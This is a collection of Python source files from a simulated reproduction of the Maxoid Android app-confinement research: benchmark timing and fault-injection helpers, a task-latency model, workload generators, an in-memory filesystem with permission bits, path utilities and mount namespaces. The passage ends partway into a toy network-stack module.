benchmark row can report per-layer operation counts (copy-ups per
delegate launch, SQL statements per query, ...) next to its latency.
"""

from __future__ import annotations

import gc
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from statistics import mean, median, stdev
from typing import Callable, Dict, Iterable, Iterator, List, Optional

from repro.errors import ReproError
from repro.faults import FAULT_POINTS, FAULTS, FaultPlane, fail_prob
from repro.obs import OBS, MetricsSnapshot, counters_by_layer


@dataclass
class Measurement:
    """Mean/median/std over repeated trials, in milliseconds."""

    label: str
    trials_ms: List[float]
    #: Metrics accumulated across the timed trials (``capture_metrics=True``).
    metrics_delta: Optional[MetricsSnapshot] = None

    def _require_trials(self, statistic: str) -> None:
        if not self.trials_ms:
            raise ReproError(
                f"measurement {self.label!r}: cannot compute {statistic} of an "
                f"empty trial list (did the workload run zero trials?)"
            )

    @property
    def mean_ms(self) -> float:
        self._require_trials("mean")
        return mean(self.trials_ms)

    @property
    def median_ms(self) -> float:
        self._require_trials("median")
        return median(self.trials_ms)

    @property
    def std_ms(self) -> float:
        self._require_trials("stdev")
        return stdev(self.trials_ms) if len(self.trials_ms) > 1 else 0.0

    @property
    def mad_ms(self) -> float:
        """Median absolute deviation — the robust spread estimate the
        perf regression gate (``benchmarks/regress.py``) pairs with the
        median for its noise-aware comparison rule."""
        self._require_trials("mad")
        center = median(self.trials_ms)
        return median(abs(sample - center) for sample in self.trials_ms)

    def quantile(self, q: float) -> float:
        """The ``q``-quantile of the raw trials (nearest-rank)."""
        self._require_trials("quantile")
        if not 0.0 <= q <= 1.0:
            raise ReproError(f"measurement {self.label!r}: q must be in [0, 1]")
        ordered = sorted(self.trials_ms)
        index = min(len(ordered) - 1, max(0, round(q * (len(ordered) - 1))))
        return ordered[index]

    def as_dict(self) -> Dict[str, float]:
        """The artifact shape ``benchmarks/perf_suite.py`` emits per op:
        median + MAD (the gate's inputs) plus mean/p95 for the record."""
        return {
            "median_ms": round(self.median_ms, 6),
            "mad_ms": round(self.mad_ms, 6),
            "mean_ms": round(self.mean_ms, 6),
            "p95_ms": round(self.quantile(0.95), 6),
            "trials": len(self.trials_ms),
        }

    def layer_counters(self) -> Dict[str, Dict[str, int]]:
        """The captured metrics delta grouped by taxonomy layer (empty when
        the measurement ran without ``capture_metrics``)."""
        if self.metrics_delta is None:
            return {}
        return counters_by_layer(self.metrics_delta)

    def __str__(self) -> str:
        return f"{self.mean_ms:.3f}±{self.std_ms:.3f} ms"


def measure(
    fn: Callable[[], object],
    trials: int = 100,
    label: str = "",
    setup: Optional[Callable[[], object]] = None,
    warmup: int = 2,
    capture_metrics: bool = False,
    obs: Optional[object] = None,
) -> Measurement:
    """Time ``fn`` over ``trials`` runs (per-trial ``setup`` untimed).

    ``capture_metrics=True`` enables the observability context for the
    timed trials (restoring its prior state afterwards) and attaches the
    metrics delta the trials produced; setup and warmup work is excluded.
    ``obs`` selects which context to gate and snapshot — a per-device
    benchmark passes its device's context; the default is the
    process-global :data:`~repro.obs.OBS`.
    """
    if trials < 1:
        raise ReproError(f"measure({label!r}): trials must be >= 1, got {trials}")
    if obs is None:
        obs = OBS
    for _ in range(warmup):
        if setup is not None:
            setup()
        fn()
    samples: List[float] = []
    delta: Optional[MetricsSnapshot] = None
    obs_was_enabled = obs.enabled
    if capture_metrics and not obs_was_enabled:
        obs.enable()
    gc_was_enabled = gc.isenabled()
    gc.disable()  # keep collector pauses out of per-op samples
    try:
        before = obs.metrics.snapshot() if capture_metrics else None
        for _ in range(trials):
            if setup is not None:
                if capture_metrics:
                    # Setup work must not pollute the trial delta: gate the
                    # instrumentation off for the untimed setup call.
                    obs.enabled = False
                    try:
                        setup()
                    finally:
                        obs.enabled = True
                else:
                    setup()
            start = time.perf_counter()
            fn()
            samples.append((time.perf_counter() - start) * 1000.0)
        if capture_metrics:
            delta = obs.metrics.snapshot() - before
    finally:
        if gc_was_enabled:
            gc.enable()
        if capture_metrics and not obs_was_enabled:
            obs.disable()
    return Measurement(label=label, trials_ms=samples, metrics_delta=delta)


@contextmanager
def arm_chaos(
    seed: int,
    probability: float = 0.01,
    points: Optional[Iterable[str]] = None,
) -> Iterator[FaultPlane]:
    """Arm probabilistic faults across fault points for a chaos run.

    Every point (default: all registered points) gets a
    :func:`~repro.faults.fail_prob` policy with a seed derived
    deterministically from ``seed`` and the point name, so one integer
    pins the entire fault schedule: re-running the same workload with the
    same ``seed`` reproduces it byte-for-byte
    (:meth:`~repro.faults.FaultPlane.schedule_bytes`), independent of the
    order the points are armed in. The plane is reset on exit.
    """
    selected = sorted(points) if points is not None else sorted(FAULT_POINTS)
    with FAULTS.scope():
        for index, point in enumerate(selected):
            FAULTS.arm(point, fail_prob(probability, seed=seed * 1009 + index))
        yield FAULTS


def overhead_pct(baseline: Measurement, treatment: Measurement) -> float:
    """Relative overhead of ``treatment`` over ``baseline``, in percent
    (the paper's Table 3 metric).

    Computed over per-trial *medians*: interpreter/allocator outliers
    otherwise dominate micro-operation means on a busy machine."""
    if baseline.median_ms <= 0:
        return 0.0
    return (treatment.median_ms - baseline.median_ms) / baseline.median_ms * 100.0
