"""The Table 5 latency model.

The paper's application benchmarks measure *user-perceivable* task latency
on a Nexus 7: the tasks are dominated by rendering, camera capture and
image processing — work Maxoid does not touch — so the Maxoid columns sit
within noise of the Android column.

Our simulation cannot reproduce a Tegra-3 render pipeline, so Table 5 is
regenerated with a hybrid model: each task's *non-I/O* time is taken from
the paper's Android column (a documented calibration constant), and the
*I/O* time is actually measured in the simulation under each
configuration. The paper's claim being tested — I/O overhead is invisible
at task granularity — then either survives or fails on our measured I/O
deltas.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

#: Paper Table 5, Android column (ms) — the calibrated task baselines.
TASK_BASELINES_MS: Dict[str, float] = {
    "adobe_open_1_6mb": 1213.0,
    "adobe_in_file_search": 3206.0,
    "camscanner_process_page": 7338.0,
    "cameramx_take_photo": 1214.0,
    "cameramx_save_edited": 1829.0,
}

#: Fraction of each task's baseline that is I/O in the paper's setting —
#: small, since these tasks are render/CPU-bound (section 7.2.2: "the time
#: for reading a 1.6 MB PDF file is negligible compared to the time for
#: rendering it").
IO_FRACTION: Dict[str, float] = {
    "adobe_open_1_6mb": 0.02,
    "adobe_in_file_search": 0.005,
    "camscanner_process_page": 0.01,
    "cameramx_take_photo": 0.02,
    "cameramx_save_edited": 0.03,
}


@dataclass
class TaskLatency:
    """Modelled task latency for one configuration."""

    task: str
    baseline_ms: float
    io_scale: float  # measured simulated I/O time / baseline simulated I/O time

    @property
    def total_ms(self) -> float:
        io_share = IO_FRACTION[self.task]
        fixed = self.baseline_ms * (1.0 - io_share)
        io = self.baseline_ms * io_share * self.io_scale
        return fixed + io


def modelled_task_latency(task: str, io_scale: float) -> float:
    """Task latency (ms) when the configuration's I/O runs ``io_scale``
    times slower than baseline Android's."""
    if task not in TASK_BASELINES_MS:
        raise KeyError(f"unknown task {task!r}")
    return TaskLatency(task, TASK_BASELINES_MS[task], io_scale).total_ms
