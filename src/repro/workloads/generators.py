"""Deterministic workload generators.

Everything is seeded so runs are reproducible: file contents derive from a
counter-mode hash, dictionary words from a fixed list crossed with
indices. Sizes follow the paper's microbenchmarks (4 KB and 1 MB files,
1000-row dictionary, 100 × 1 KB downloads, 100 × 780 KB images).
"""

from __future__ import annotations

import hashlib
from typing import Any, List

from repro.android.app_api import AppApi

KB = 1024
MB = 1024 * KB

#: Sizes from the paper's evaluation.
SMALL_FILE = 4 * KB
LARGE_FILE = 1 * MB
DOWNLOAD_FILE = 1 * KB
IMAGE_FILE = 780 * KB
DICTIONARY_ROWS = 1000


def deterministic_bytes(size: int, seed: str = "maxoid") -> bytes:
    """``size`` pseudo-random bytes, stable across runs (counter-mode
    SHA-256 — no ``random`` module, so hypothesis/pytest seeds don't
    interfere)."""
    out = bytearray()
    counter = 0
    while len(out) < size:
        out.extend(hashlib.sha256(f"{seed}:{counter}".encode()).digest())
        counter += 1
    return bytes(out[:size])


_WORD_STEMS = [
    "maxoid", "android", "aufs", "binder", "intent", "zygote", "delta",
    "volatile", "delegate", "initiator", "whiteout", "branch", "mount",
    "confinement", "taint", "provider",
]


def make_dictionary_words(count: int = DICTIONARY_ROWS) -> List[str]:
    """``count`` distinct dictionary words."""
    return [f"{_WORD_STEMS[i % len(_WORD_STEMS)]}{i}" for i in range(count)]


def make_external_files(api: AppApi, count: int, size: int, subdir: str = "bench") -> List[str]:
    """Create ``count`` files of ``size`` bytes on external storage via the
    given app's view; returns their paths."""
    paths = []
    payload = deterministic_bytes(size)
    for index in range(count):
        paths.append(api.write_external(f"{subdir}/file{index:04d}.bin", payload))
    return paths


def make_internal_files(api: AppApi, count: int, size: int, subdir: str = "bench") -> List[str]:
    """Create files in the app's internal private storage."""
    paths = []
    payload = deterministic_bytes(size)
    for index in range(count):
        paths.append(api.write_internal(f"{subdir}/file{index:04d}.bin", payload))
    return paths


def make_image_files(api: AppApi, count: int = 100, size: int = IMAGE_FILE) -> List[str]:
    """The Table 4 image set: ``count`` images of ~780 KB on the SD card."""
    paths = []
    payload = b"\xff\xd8" + deterministic_bytes(size - 2)
    for index in range(count):
        paths.append(api.write_external(f"DCIM/bench/img{index:04d}.jpg", payload))
    return paths


def publish_download_set(device: Any, count: int = 100, size: int = DOWNLOAD_FILE, host: str = "bench.example.com") -> List[str]:
    """Publish ``count`` files of ``size`` bytes on the fake internet for
    the Table 4 download benchmark; returns resource names."""
    names = []
    payload = deterministic_bytes(size)
    device.network.add_host(host)
    for index in range(count):
        name = f"dl{index:04d}.bin"
        device.network.publish(host, name, payload)
        names.append(name)
    return names
