"""An in-memory inode-based virtual filesystem.

This is the storage substrate for the simulated Android device. It models the
pieces of a POSIX filesystem that the Maxoid design depends on:

- hierarchical directories with per-inode owner UID and mode bits,
- regular files holding byte contents,
- the usual operations (open/read/write/append/truncate, mkdir, readdir,
  unlink, rmdir, rename, stat),
- a logical modification clock so callers can observe "which version of this
  file am I seeing" without real timestamps (keeps experiments deterministic).

Both :class:`Filesystem` and :class:`repro.kernel.aufs.AufsMount` implement
the same :class:`FilesystemAPI` interface, so a mount namespace can resolve a
path to either interchangeably.
"""

from __future__ import annotations

import enum
import itertools
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

from repro.errors import (
    BadFileDescriptor,
    DirectoryNotEmpty,
    FileExists,
    FileNotFound,
    IsADirectory,
    NotADirectory,
    PermissionDenied,
    ReadOnlyFilesystem,
)
from repro.kernel import path as vpath
from repro.sched.locks import RWLock

# A single logical clock shared by every filesystem in the process keeps
# version numbers comparable across filesystems (e.g. a file copied-up by
# Aufs is "newer" than its origin).
_clock = itertools.count(1)


def _tick() -> int:
    return next(_clock)


class InodeKind(enum.Enum):
    """The kinds of filesystem object the simulation supports."""

    FILE = "file"
    DIR = "dir"


@dataclass
class Credentials:
    """The identity a filesystem operation runs with.

    Mirrors the fields Maxoid cares about: Android gives every app a
    dedicated UID, and root (Zygote, system services) bypasses permission
    checks.
    """

    uid: int
    gid: int = 0

    @property
    def is_root(self) -> bool:
        return self.uid == 0


ROOT_CRED = Credentials(uid=0)


@dataclass
class Stat:
    """Snapshot of an inode's metadata, as returned by ``stat()``."""

    ino: int
    kind: InodeKind
    mode: int
    uid: int
    gid: int
    size: int
    mtime: int

    @property
    def is_dir(self) -> bool:
        return self.kind is InodeKind.DIR

    @property
    def is_file(self) -> bool:
        return self.kind is InodeKind.FILE


class Inode:
    """A filesystem object: a regular file or a directory.

    Directories map child names to child inodes. Regular files hold a
    ``bytearray``. ``mtime`` is a logical version stamp, bumped on every
    content change.
    """

    __slots__ = ("ino", "kind", "mode", "uid", "gid", "data", "children", "mtime")

    _ino_counter = itertools.count(1)

    def __init__(self, kind: InodeKind, mode: int, uid: int, gid: int = 0) -> None:
        self.ino: int = next(Inode._ino_counter)
        self.kind = kind
        self.mode = mode
        self.uid = uid
        self.gid = gid
        self.data: bytearray = bytearray()
        self.children: Dict[str, "Inode"] = {}
        self.mtime: int = _tick()

    def touch(self) -> None:
        self.mtime = _tick()

    def stat(self) -> Stat:
        size = len(self.children) if self.kind is InodeKind.DIR else len(self.data)
        return Stat(
            ino=self.ino,
            kind=self.kind,
            mode=self.mode,
            uid=self.uid,
            gid=self.gid,
            size=size,
            mtime=self.mtime,
        )

    # -- permission bits ---------------------------------------------------

    def permits(self, cred: Credentials, want: int) -> bool:
        """Check whether ``cred`` may perform an access of kind ``want``.

        ``want`` is a 3-bit rwx mask (4=read, 2=write, 1=execute/search).
        Owner bits apply when the UID matches; group bits when the GID
        matches; otherwise the "other" bits. Root always passes.
        """
        if cred.is_root:
            return True
        if cred.uid == self.uid:
            granted = (self.mode >> 6) & 0o7
        elif cred.gid == self.gid and self.gid != 0:
            granted = (self.mode >> 3) & 0o7
        else:
            granted = self.mode & 0o7
        return (granted & want) == want


class FileHandle:
    """An open file descriptor on a regular file.

    Tracks its own offset; ``readable``/``writable`` gate the operations,
    mirroring the open flags used at ``open()`` time.
    """

    def __init__(self, inode: Inode, readable: bool, writable: bool, append: bool) -> None:
        self._inode = inode
        self._readable = readable
        self._writable = writable
        self._append = append
        self._offset = 0
        self._closed = False

    # The Aufs handle needs to retarget after copy-up; expose the inode to
    # subclasses via a property so that retargeting stays encapsulated.
    @property
    def inode(self) -> Inode:
        return self._inode

    @property
    def ino(self) -> int:
        """Inode number — globally unique across simulated filesystems."""
        return self._inode.ino

    def _check_open(self) -> None:
        if self._closed:
            raise BadFileDescriptor("file handle is closed")

    def read(self, size: int = -1) -> bytes:
        """Read up to ``size`` bytes from the current offset (all if -1)."""
        self._check_open()
        if not self._readable:
            raise BadFileDescriptor("handle not open for reading")
        data = bytes(self._inode.data)
        if size < 0:
            chunk = data[self._offset :]
        else:
            chunk = data[self._offset : self._offset + size]
        self._offset += len(chunk)
        return chunk

    def write(self, data: bytes) -> int:
        """Write ``data`` at the current offset (or the end, if appending)."""
        self._check_open()
        if not self._writable:
            raise BadFileDescriptor("handle not open for writing")
        if self._append:
            self._offset = len(self._inode.data)
        end = self._offset + len(data)
        buf = self._inode.data
        if end > len(buf):
            buf.extend(b"\x00" * (end - len(buf)))
        buf[self._offset : end] = data
        self._offset = end
        self._inode.touch()
        return len(data)

    def seek(self, offset: int) -> None:
        self._check_open()
        if offset < 0:
            raise ValueError("negative seek offset")
        self._offset = offset

    def tell(self) -> int:
        return self._offset

    def truncate(self, size: int = 0) -> None:
        self._check_open()
        if not self._writable:
            raise BadFileDescriptor("handle not open for writing")
        del self._inode.data[size:]
        self._inode.touch()

    def close(self) -> None:
        self._closed = True

    def __enter__(self) -> "FileHandle":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class FilesystemAPI:
    """The interface a mount namespace programs against.

    Implemented by the plain in-memory :class:`Filesystem` and by
    :class:`repro.kernel.aufs.AufsMount`. All paths are absolute within the
    filesystem (i.e. relative to its own root, not the namespace root).
    """

    def stat(self, path: str, cred: Credentials) -> Stat:
        """Metadata of the object at ``path``."""
        raise NotImplementedError

    def exists(self, path: str, cred: Credentials) -> bool:
        """True if ``path`` resolves to a file or directory."""
        try:
            self.stat(path, cred)
            return True
        except (FileNotFound, NotADirectory):
            # ENOTDIR on an intermediate component also means "not there".
            return False

    def open(
        self,
        path: str,
        cred: Credentials,
        *,
        read: bool = True,
        write: bool = False,
        create: bool = False,
        truncate: bool = False,
        append: bool = False,
        exclusive: bool = False,
        mode: int = 0o644,
    ) -> FileHandle:
        """Open ``path`` and return a handle (see keyword flags)."""
        raise NotImplementedError

    def mkdir(self, path: str, cred: Credentials, mode: int = 0o755, parents: bool = False) -> None:
        """Create a directory (and missing ancestors when ``parents``)."""
        raise NotImplementedError

    def readdir(self, path: str, cred: Credentials) -> List[str]:
        """Sorted names of the entries in directory ``path``."""
        raise NotImplementedError

    def unlink(self, path: str, cred: Credentials) -> None:
        """Remove the file at ``path``."""
        raise NotImplementedError

    def rmdir(self, path: str, cred: Credentials) -> None:
        """Remove the empty directory at ``path``."""
        raise NotImplementedError

    def rename(self, old: str, new: str, cred: Credentials) -> None:
        """Atomically move ``old`` to ``new`` within this filesystem."""
        raise NotImplementedError

    # -- convenience helpers (shared) --------------------------------------

    def read_file(self, path: str, cred: Credentials) -> bytes:
        """Read the whole file at ``path``."""
        with self.open(path, cred, read=True) as handle:
            return handle.read()

    def write_file(self, path: str, data: bytes, cred: Credentials, mode: int = 0o644) -> None:
        """Create/replace the file at ``path`` with ``data``."""
        with self.open(
            path, cred, read=False, write=True, create=True, truncate=True, mode=mode
        ) as handle:
            handle.write(data)

    def append_file(self, path: str, data: bytes, cred: Credentials) -> None:
        """Append ``data`` to the existing file at ``path``."""
        with self.open(path, cred, read=False, write=True, append=True) as handle:
            handle.write(data)

    def walk(self, top: str, cred: Credentials) -> Iterator[Tuple[str, List[str], List[str]]]:
        """Yield ``(dirpath, dirnames, filenames)`` like :func:`os.walk`."""
        dirnames: List[str] = []
        filenames: List[str] = []
        for name in sorted(self.readdir(top, cred)):
            child = vpath.join(top, name)
            if self.stat(child, cred).is_dir:
                dirnames.append(name)
            else:
                filenames.append(name)
        yield top, dirnames, filenames
        for name in dirnames:
            yield from self.walk(vpath.join(top, name), cred)


class Filesystem(FilesystemAPI):
    """A plain, single-tree in-memory filesystem.

    ``read_only`` marks the whole tree immutable (useful for sealed system
    images); per-inode mode bits handle everything else.
    """

    def __init__(self, *, read_only: bool = False, label: str = "") -> None:
        self.root = Inode(InodeKind.DIR, mode=0o755, uid=0)
        self.read_only = read_only
        self.label = label
        # Cooperative reader-writer lock for the deterministic scheduler;
        # a no-op whenever the reactor is off (see repro.sched.locks).
        self.rwlock = RWLock(f"fs:{label or 'anon'}")

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<Filesystem {self.label or hex(id(self))}>"

    # -- resolution ---------------------------------------------------------

    def _lookup(self, path: str, cred: Credentials) -> Inode:
        """Resolve ``path`` to an inode, enforcing search permission."""
        node = self.root
        for component in vpath.split(path):
            if node.kind is not InodeKind.DIR:
                raise NotADirectory(path)
            if not node.permits(cred, 0o1):
                raise PermissionDenied(f"search denied on the way to {path}")
            child = node.children.get(component)
            if child is None:
                raise FileNotFound(path)
            node = child
        return node

    def _lookup_parent(self, path: str, cred: Credentials) -> Tuple[Inode, str]:
        """Resolve the parent directory of ``path``; return (parent, name)."""
        name = vpath.basename(path)
        if not name:
            raise FileExists("/")
        parent_node = self._lookup(vpath.parent(path), cred)
        if parent_node.kind is not InodeKind.DIR:
            raise NotADirectory(vpath.parent(path))
        return parent_node, name

    def _check_writable_fs(self) -> None:
        if self.read_only:
            raise ReadOnlyFilesystem(self.label or "filesystem is read-only")

    # -- FilesystemAPI ------------------------------------------------------

    def stat(self, path: str, cred: Credentials) -> Stat:
        return self._lookup(path, cred).stat()

    def open(
        self,
        path: str,
        cred: Credentials,
        *,
        read: bool = True,
        write: bool = False,
        create: bool = False,
        truncate: bool = False,
        append: bool = False,
        exclusive: bool = False,
        mode: int = 0o644,
    ) -> FileHandle:
        if write or truncate or append:
            self._check_writable_fs()
        try:
            node = self._lookup(path, cred)
            if exclusive and create:
                raise FileExists(path)
        except FileNotFound:
            if not create:
                raise
            self._check_writable_fs()
            parent_node, name = self._lookup_parent(path, cred)
            if not parent_node.permits(cred, 0o3):
                raise PermissionDenied(f"cannot create in {vpath.parent(path)}")
            node = Inode(InodeKind.FILE, mode=mode, uid=cred.uid, gid=cred.gid)
            parent_node.children[name] = node
            parent_node.touch()
        if node.kind is InodeKind.DIR:
            raise IsADirectory(path)
        if read and not node.permits(cred, 0o4):
            raise PermissionDenied(f"read denied: {path}")
        writable = write or append or truncate
        if writable and not node.permits(cred, 0o2):
            raise PermissionDenied(f"write denied: {path}")
        if truncate:
            node.data.clear()
            node.touch()
        return FileHandle(node, readable=read, writable=writable, append=append)

    def mkdir(self, path: str, cred: Credentials, mode: int = 0o755, parents: bool = False) -> None:
        self._check_writable_fs()
        if parents:
            partial = "/"
            for component in vpath.split(path):
                partial = vpath.join(partial, component)
                if not self.exists(partial, cred):
                    self.mkdir(partial, cred, mode=mode, parents=False)
            return
        parent_node, name = self._lookup_parent(path, cred)
        if name in parent_node.children:
            raise FileExists(path)
        if not parent_node.permits(cred, 0o3):
            raise PermissionDenied(f"cannot create directory in {vpath.parent(path)}")
        parent_node.children[name] = Inode(InodeKind.DIR, mode=mode, uid=cred.uid, gid=cred.gid)
        parent_node.touch()

    def readdir(self, path: str, cred: Credentials) -> List[str]:
        node = self._lookup(path, cred)
        if node.kind is not InodeKind.DIR:
            raise NotADirectory(path)
        if not node.permits(cred, 0o4):
            raise PermissionDenied(f"list denied: {path}")
        return sorted(node.children)

    def unlink(self, path: str, cred: Credentials) -> None:
        self._check_writable_fs()
        parent_node, name = self._lookup_parent(path, cred)
        node = parent_node.children.get(name)
        if node is None:
            raise FileNotFound(path)
        if node.kind is InodeKind.DIR:
            raise IsADirectory(path)
        if not parent_node.permits(cred, 0o3):
            raise PermissionDenied(f"unlink denied: {path}")
        del parent_node.children[name]
        parent_node.touch()

    def rmdir(self, path: str, cred: Credentials) -> None:
        self._check_writable_fs()
        parent_node, name = self._lookup_parent(path, cred)
        node = parent_node.children.get(name)
        if node is None:
            raise FileNotFound(path)
        if node.kind is not InodeKind.DIR:
            raise NotADirectory(path)
        if node.children:
            raise DirectoryNotEmpty(path)
        if not parent_node.permits(cred, 0o3):
            raise PermissionDenied(f"rmdir denied: {path}")
        del parent_node.children[name]
        parent_node.touch()

    def rename(self, old: str, new: str, cred: Credentials) -> None:
        self._check_writable_fs()
        old_parent, old_name = self._lookup_parent(old, cred)
        node = old_parent.children.get(old_name)
        if node is None:
            raise FileNotFound(old)
        new_parent, new_name = self._lookup_parent(new, cred)
        if not old_parent.permits(cred, 0o3) or not new_parent.permits(cred, 0o3):
            raise PermissionDenied(f"rename denied: {old} -> {new}")
        existing = new_parent.children.get(new_name)
        if existing is not None and existing.kind is InodeKind.DIR and existing.children:
            raise DirectoryNotEmpty(new)
        del old_parent.children[old_name]
        new_parent.children[new_name] = node
        old_parent.touch()
        new_parent.touch()

    # -- administrative helpers (used by Zygote / branch manager) -----------

    def chown(self, path: str, uid: int, cred: Credentials = ROOT_CRED, gid: Optional[int] = None) -> None:
        """Change ownership; only root may call this (as in Linux)."""
        if not cred.is_root:
            raise PermissionDenied("chown requires root")
        node = self._lookup(path, cred)
        node.uid = uid
        if gid is not None:
            node.gid = gid

    def chmod(self, path: str, mode: int, cred: Credentials = ROOT_CRED) -> None:
        node = self._lookup(path, cred)
        if not cred.is_root and cred.uid != node.uid:
            raise PermissionDenied("chmod requires ownership")
        node.mode = mode

    def tree_size(self, path: str = "/", cred: Credentials = ROOT_CRED) -> int:
        """Total number of inodes under ``path`` (for space accounting)."""
        node = self._lookup(path, cred)
        count = 1
        stack = [node]
        while stack:
            current = stack.pop()
            for child in current.children.values():
                count += 1
                if child.kind is InodeKind.DIR:
                    stack.append(child)
        return count
