"""Path utilities for the simulated VFS.

All simulated paths are absolute, ``/``-separated, and normalized before any
filesystem sees them. Paths never refer to the host filesystem.
"""

from __future__ import annotations

from typing import List, Tuple


def normalize(path: str) -> str:
    """Normalize ``path`` to a canonical absolute form.

    Collapses repeated slashes, resolves ``.`` and ``..`` components (without
    consulting the filesystem — the simulated VFS has no symlink loops to
    worry about), and strips trailing slashes. The root is ``"/"``.

    >>> normalize("//a/./b/../c/")
    '/a/c'
    """
    if not path.startswith("/"):
        path = "/" + path
    parts: List[str] = []
    for component in path.split("/"):
        if component in ("", "."):
            continue
        if component == "..":
            if parts:
                parts.pop()
            continue
        parts.append(component)
    return "/" + "/".join(parts)


def split(path: str) -> Tuple[str, ...]:
    """Split a normalized path into its components.

    >>> split("/a/b/c")
    ('a', 'b', 'c')
    >>> split("/")
    ()
    """
    path = normalize(path)
    if path == "/":
        return ()
    return tuple(path[1:].split("/"))


def join(*parts: str) -> str:
    """Join path fragments into a normalized absolute path.

    >>> join("/a", "b/c", "d")
    '/a/b/c/d'
    """
    return normalize("/".join(p for p in parts if p))


def parent(path: str) -> str:
    """Return the parent directory of ``path`` (the root is its own parent).

    >>> parent("/a/b")
    '/a'
    >>> parent("/")
    '/'
    """
    components = split(path)
    if not components:
        return "/"
    return "/" + "/".join(components[:-1])


def basename(path: str) -> str:
    """Return the final component of ``path`` (empty string for the root).

    >>> basename("/a/b")
    'b'
    """
    components = split(path)
    return components[-1] if components else ""


def is_within(path: str, ancestor: str) -> bool:
    """True if ``path`` equals ``ancestor`` or lies beneath it.

    >>> is_within("/a/b/c", "/a/b")
    True
    >>> is_within("/a/bc", "/a/b")
    False
    """
    path = normalize(path)
    ancestor = normalize(ancestor)
    if ancestor == "/":
        return True
    return path == ancestor or path.startswith(ancestor + "/")


def relative_to(path: str, ancestor: str) -> str:
    """Return ``path`` relative to ``ancestor`` (no leading slash).

    Raises :class:`ValueError` if ``path`` is not within ``ancestor``.

    >>> relative_to("/a/b/c", "/a")
    'b/c'
    >>> relative_to("/a", "/a")
    ''
    """
    path = normalize(path)
    ancestor = normalize(ancestor)
    if not is_within(path, ancestor):
        raise ValueError(f"{path!r} is not within {ancestor!r}")
    if path == ancestor:
        return ""
    if ancestor == "/":
        return path[1:]
    return path[len(ancestor) + 1 :]
