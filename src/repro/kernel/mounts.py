"""Per-process mount namespaces.

Maxoid gives every app process a private mount namespace (``unshare()`` in
Zygote, paper section 4.2) and mounts different Aufs trees at the same
mount points for different app instances — that is how two processes can
open the *same path* and see *different state*.

A :class:`MountNamespace` is an ordered table of mount points. Path
resolution picks the mount with the longest matching prefix, so a mount at
``/storage/sdcard/data/A`` correctly shadows the mount at
``/storage/sdcard`` (exactly the nesting Table 2 of the paper relies on).
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Tuple

from repro.errors import FileNotFound
from repro.faults import FAULTS as _FAULTS
from repro.kernel import path as vpath
from repro.kernel.vfs import Filesystem, FilesystemAPI
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED
from repro.sched.locks import RWLock


class MountNamespace:
    """A table mapping mount points to filesystems.

    The namespace always has a root filesystem mounted at ``/``.
    """

    def __init__(
        self, root_fs: Optional[FilesystemAPI] = None, obs: Optional[Any] = None
    ) -> None:
        self._mounts: Dict[str, FilesystemAPI] = {}
        self._mounts["/"] = root_fs if root_fs is not None else Filesystem(label="rootfs")
        # One mount-infrastructure lock shared with every unshare() clone:
        # the kernel serializes mount-table surgery globally, and sharing
        # the object keeps the lock-order graph to one "ns" node.
        self.rwlock = RWLock("ns")
        # The owning device's observability context; unshare() clones
        # inherit it, so every namespace in a device shares one registry.
        self.obs = obs if obs is not None else _OBS

    # ------------------------------------------------------------------

    def mount(self, point: str, fs: FilesystemAPI) -> None:
        """Mount ``fs`` at ``point``, shadowing any prior mount there."""
        if _SCHED.enabled:
            with self.rwlock.write():
                _SCHED.yield_point(
                    "mounts.mount", mount_point=point, resource="mount-table", rw="w"
                )
                self._mounts[vpath.normalize(point)] = fs
            return
        self._mounts[vpath.normalize(point)] = fs

    def umount(self, point: str) -> None:
        point = vpath.normalize(point)
        if point == "/":
            raise ValueError("cannot unmount the root filesystem")
        if _SCHED.enabled:
            with self.rwlock.write():
                _SCHED.yield_point(
                    "mounts.umount", mount_point=point, resource="mount-table", rw="w"
                )
                if point not in self._mounts:
                    raise FileNotFound(f"not a mount point: {point}")
                del self._mounts[point]
            return
        if point not in self._mounts:
            raise FileNotFound(f"not a mount point: {point}")
        del self._mounts[point]

    def unshare(self) -> "MountNamespace":
        """Clone this namespace (the simulated ``unshare(CLONE_NEWNS)``).

        The clone shares the underlying filesystems but has its own mount
        table, so later mounts in the clone are invisible to the parent.
        """
        clone = MountNamespace.__new__(MountNamespace)
        clone._mounts = dict(self._mounts)
        clone.rwlock = self.rwlock
        clone.obs = self.obs
        return clone

    # ------------------------------------------------------------------

    def resolve(self, path: str) -> Tuple[FilesystemAPI, str]:
        """Resolve ``path`` to ``(filesystem, path-within-filesystem)``.

        Chooses the mount point with the longest prefix match.
        """
        if _FAULTS.enabled:
            _FAULTS.hit(
                "mounts.resolve", path=path, device_id=self.obs.device_id
            )
        if self.obs.enabled:
            self.obs.metrics.count("mounts.resolve")
        if _SCHED.enabled:
            with self.rwlock.read():
                return self._resolve_impl(path)
        return self._resolve_impl(path)

    def _resolve_impl(self, path: str) -> Tuple[FilesystemAPI, str]:
        path = vpath.normalize(path)
        best = "/"
        for point in self._mounts:
            if vpath.is_within(path, point) and len(point) > len(best):
                best = point
        fs = self._mounts[best]
        inner = "/" + vpath.relative_to(path, best)
        return fs, vpath.normalize(inner)

    def mount_for(self, path: str) -> Tuple[str, FilesystemAPI]:
        """Return ``(mount_point, filesystem)`` covering ``path``."""
        path = vpath.normalize(path)
        best = "/"
        for point in self._mounts:
            if vpath.is_within(path, point) and len(point) > len(best):
                best = point
        return best, self._mounts[best]

    def mount_points(self) -> List[str]:
        """All mount points, sorted (``/`` first)."""
        return sorted(self._mounts)

    def mount_table(self) -> Dict[str, FilesystemAPI]:
        """A copy of the mount table for inspection (Table 2 benchmarks)."""
        return dict(self._mounts)
