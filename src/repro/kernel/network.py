"""A toy network stack with the Maxoid delegate guard.

Paper section 6.2: "Maxoid emulates loss of network connection for
delegates by returning error code ENETUNREACH in the connect system call".
The stack models a tiny internet — named hosts serving byte resources —
sufficient for the Dropbox/Email/Browser scenarios: fetching a file,
syncing a change, downloading in incognito mode.

Every ``connect()`` consults the calling process's task context; delegates
get :class:`NetworkUnreachable`. Data fetched *before* confinement remains
readable (it is ordinary file state), matching the paper's semantics.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

